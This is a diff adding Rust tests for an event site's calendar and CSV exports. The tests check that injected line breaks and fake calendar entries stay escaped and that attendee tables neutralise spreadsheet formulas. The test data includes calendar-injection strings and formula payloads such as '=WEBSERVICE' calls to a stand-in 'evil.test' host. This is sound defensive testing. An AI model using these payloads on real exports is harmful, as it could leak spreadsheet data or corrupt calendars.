@@ -1,0 +1,115 @@
+//! What people typed, in files that other programs read: calendars and tables.
+
+use domain::viewer::Role;
+use sqlx::PgPool;
+
+use super::matrix::SERIES;
+use crate::common::Site;
+
+/// Whatever stands in a text, a calendar holds one entry for each event.
+#[sqlx::test(migrator = "server::postgres::MIGRATIONS")]
+async fn promise_39_line_breaks_and_signs_stay_inside_one_entry(pool: PgPool) {
+    let site = Site::demo(pool).await;
+    let hostile = "a;b,c\\d\r\nEND:VEVENT\r\nBEGIN:VEVENT\nUID:evil\rX";
+    sqlx::query("update events set title = $1, lead = $1, venue_name = $1, venue_address = $1")
+        .bind(hostile)
+        .execute(&site.pool)
+        .await
+        .unwrap();
+    for (path, entries) in [("/security-jaws/42/event.ics", 1), ("/security-jaws/calendar.ics", 2)] {
+        let text = site.visitor().get(path).await.expect(200).body;
+        let lines = |line: &str| text.split("\r\n").filter(|l| *l == line).count();
+        assert_eq!(
+            (lines("BEGIN:VEVENT"), lines("END:VEVENT"), lines("BEGIN:VTIMEZONE")),
+            (entries, entries, 1),
+            "{text}"
+        );
+        assert!(!text.split(['\r', '\n']).any(|line| line.starts_with("UID:evil") || line == "X"), "{text}");
+        // A line break of the lead is one for calendars, written as the two characters that RFC 5545 wants.
+        assert!(
+            text.replace("\r\n ", "").contains("DESCRIPTION:a\\;b\\,c\\\\d\\nEND:VEVENT\\nBEGIN:VEVENT\\n"),
+            "{text}"
+        );
+        assert!(text.contains("TZID=Asia/Tokyo") && text.contains("TZOFFSETTO:+0900"), "{text}");
+    }
+    // Who has no seat yet puts it down as tentative, and that is kept apart from what everybody gets.
+    for (path, status) in
+        [("event.ics?tentative=1", "TENTATIVE"), ("event.ics", "CONFIRMED"), ("event.ics?tentative=1", "TENTATIVE")]
+    {
+        let text = site.visitor().get(&format!("/security-jaws/42/{path}")).await.expect(200).body;
+        assert!(text.contains(&format!("STATUS:{status}\r\n")), "{path}: {text}");
+    }
+}
+
+/// A list of attendees opens in a spreadsheet as text, whatever they call themselves.
+#[sqlx::test(migrator = "server::postgres::MIGRATIONS")]
+async fn promise_38_an_exported_name_is_no_formula(pool: PgPool) {
+    let site = Site::demo(pool).await;
+    site.run("update accounts set name = '=HYPERLINK(\"https://evil.test\")' where mail = 'attendee@demo.example'")
+        .await;
+    let mut organizer = site.signed_in(Some((SERIES, Role::Organizer))).await;
+    let csv = organizer.post("/organize/security-jaws/42/attendees.csv", &[]).await.expect(200);
+    assert!(
+        csv.header("content-type").starts_with("text/csv") && csv.header("content-disposition").contains("attachment")
+    );
+    assert!(csv.body.contains("\"'=HYPERLINK(\"\"https://evil.test\"\")\""), "{}", csv.body);
+    assert!(csv.body.lines().count() >= 12);
+    assert!(site.audit().await.contains(&"attendees.export ok".to_owned()));
+}
+
+/// Nor is what they answered, what was asked, or what organizers noted.
+#[sqlx::test(migrator = "server::postgres::MIGRATIONS")]
+async fn promise_38_no_column_of_an_exported_questionnaire_is_a_formula(pool: PgPool) {
+    let site = Site::demo(pool).await;
+    let formula = |what: &str| format!("=WEBSERVICE(\"https://evil.test/{what}\")");
+    let question = "insert into sign_up_questions (series_id, event_id, position, kind, words_ja, options)
+                    select e.series_id, e.id, $1, $2, $3, $4 from events e join series s on s.id = e.series_id
+                    where s.slug = 'security-jaws' and e.number = 42 returning id";
+    let mine =
+        "select r.id from registrations r join accounts a on a.id = r.account_id join events e on e.id = r.event_id
+                join series s on s.id = e.series_id where s.slug = 'security-jaws' and e.number = 42 and a.mail = $1";
+    let mine: i64 = site.one(mine, "attendee@demo.example").await;
+    let asked = [
+        (91, "short", vec![], vec![formula("short")]),
+        (92, "long", vec![], vec!["\t+SUM(A1)\n-2".to_owned()]),
+        (93, "choices", vec!["@SUM(A1)".to_owned(), "2".to_owned()], vec!["@SUM(A1)".to_owned(), "2".to_owned()]),
+    ];
+    for (position, kind, options, answer) in asked {
+        let id: i64 = sqlx::query_scalar(question)
+            .bind(position)
+            .bind(kind)
+            .bind(formula(&format!("asked-{kind}")))
+            .bind(options)
+            .fetch_one(&site.pool)
+            .await
+            .unwrap();
+        sqlx::query("insert into sign_up_answers (registration_id, question_id, answer, answered_at) values ($1, $2, $3, now())")
+            .bind(mine)
+            .bind(id)
+            .bind(answer)
+            .execute(&site.pool)
+            .await
+            .unwrap();
+    }
+    site.run(&format!("update registrations set desk_note = '{}' where id = {mine}", formula("note"))).await;
+    let mut organizer = site.signed_in(Some((SERIES, Role::Organizer))).await;
+    let table = organizer.post("/organize/security-jaws/42/attendees.csv", &[]).await.expect(200).body;
+    let mut reader =
+        csv::ReaderBuilder::new().has_headers(false).from_reader(table.trim_start_matches('\u{feff}').as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cells: Vec<&str> = rows.iter().flatten().collect();
+    let is_formula = |cell: &&&str| cell.trim_start().starts_with(['=', '+', '-', '@']);
+    assert_eq!(cells.iter().filter(is_formula).count(), 0, "{table}");
+    for what in ["asked-short", "asked-long", "asked-choices"] {
+        assert_eq!(rows[0].iter().filter(|cell| *cell == format!("'{}", formula(what))).count(), 1, "{what}: {table}");
+    }
+    for (said, what) in [
+        (format!("'{}", formula("short")), "an answer"),
+        (format!("'{}", formula("note")), "the note"),
+        ("'\t+SUM(A1)\n-2".to_owned(), "a long answer"),
+        ("'@SUM(A1), 2".to_owned(), "what was chosen"),
+    ] {
+        let of_body = rows[1..].iter().flatten().filter(|cell| *cell == said).count();
+        assert_eq!(of_body, 1, "{what}: {table}");
+    }
+}
